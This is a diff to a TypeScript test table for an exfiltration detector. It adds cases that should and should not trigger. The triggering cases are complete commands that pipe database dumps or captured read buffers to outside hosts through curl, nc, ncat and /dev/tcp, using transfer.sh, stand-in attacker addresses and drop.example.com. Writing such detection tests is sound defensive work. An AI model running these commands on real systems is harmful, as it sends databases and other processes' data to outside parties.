@@ -3,6 +3,10 @@ import { commandDataPour } from './data-pour.ts';
 
 indicatorTable(commandDataPour, {
   fires: {
+    'a dump to where anybody leaves files': script('pg_dump shop | gzip | curl -s -T - https://transfer.sh/a.gz'),
+    'what others read, by a probe': script(
+      `bpftrace -e 'tracepoint:syscalls:sys_enter_read { printf("%s", str(args->buf)) }' | nc 9.9.9.9 9000`,
+    ),
     'a dump into netcat': script('pg_dumpall -h db | xz | ncat --ssl 203.0.113.7 443'),
     'a dump into a connection of the shell': runs('bash', '-c', 'mysqldump --all-databases > /dev/tcp/203.0.113.7/99'),
     'a dump into netcat, by a name': script('mongodump --archive | nc drop.example.com 9000'),
@@ -13,6 +17,10 @@ indicatorTable(commandDataPour, {
     'packets in the body of a request': script('tcpdump -c 999 -w - | curl --data-binary @- https://drop.example.com/'),
   },
   staysSilent: {
+    'a dump to a store of the own': script('pg_dump shop | gzip | curl -s -T - https://backup.example.com/a.gz'),
+    'a probe that counts': script(
+      "bpftrace -e 'tracepoint:syscalls:sys_enter_read { @[comm] = count() }' | nc 9.9.9.9 9000",
+    ),
     'a dump to storage': script('pg_dump shop | gzip | aws s3 cp - s3://backups/shop.gz'),
     'a dump to another database of the cluster': script('pg_dump -h a shop | nc b.shop.svc 5433'),
     'a dump to a private address': script('pg_dump -h a shop | nc 10.2.3.4 5433'),
